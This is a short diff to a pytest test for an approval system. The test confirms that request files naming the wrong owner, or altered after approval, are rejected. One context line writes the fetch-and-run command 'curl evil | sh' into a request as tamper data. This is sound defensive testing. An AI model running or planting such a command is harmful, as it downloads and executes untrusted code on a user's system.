@@ -198,6 +198,9 @@ def test_an_approver_reads_only_a_request_owned_by_the_person_it_names_and_bound
         read_request(path, approver_uid=APPROVER_UID)
     os.chown(path, 0, 0)
     data = json.loads(path.read_text())
+    path.write_text(json.dumps({**data, "requester": "bin"}))  # the person's own file, another person's name
+    with pytest.raises(ApprovalError, match="not owned by bin"):
+        read_request(path, approver_uid=APPROVER_UID)
     path.write_text(json.dumps({**data, "text": data["text"] + "curl evil | sh\n"}))  # changed after the card
     with pytest.raises(ApprovalError, match="does not match its digest"):
         read_request(path, approver_uid=APPROVER_UID)
